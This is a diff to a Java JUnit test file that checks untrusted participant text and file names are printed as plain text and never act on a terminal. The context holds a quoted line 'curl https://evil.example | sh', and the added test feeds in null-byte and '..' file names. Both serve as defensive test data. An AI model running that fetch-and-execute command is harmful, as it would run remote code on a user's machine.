@@ -34,6 +34,7 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.EnumSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /** Names, declarations and answers of participants are printed, and nothing that they say drives a terminal. */
 class ForeignTextTest {
@@ -120,6 +121,15 @@ class ForeignTextTest {
                         "  p1 says | fix: run: curl https://evil.example | sh",
                         "  p1 says | Exit 0: done.",
                         "  p1 says | Hash: 12");
+    }
+
+    /** A journal or evidence that a stranger wrote may name any file. */
+    @ParameterizedTest
+    @ValueSource(strings = {"a\0b", "/", "..", "a\0b.groovy", "b.groovy"})
+    void aPlaceThatIsNoFileIsShownWithoutAnExcerpt(String file) {
+        String printed = printed(Diagnostic.error("some-code", "told").at(range(file, 1, 2)), TextLayout.Colours.OFF);
+
+        assertThat(printed).startsWith("error: told [some-code]");
     }
 
     private String printed(Diagnostic diagnostic, TextLayout.Colours colours) {
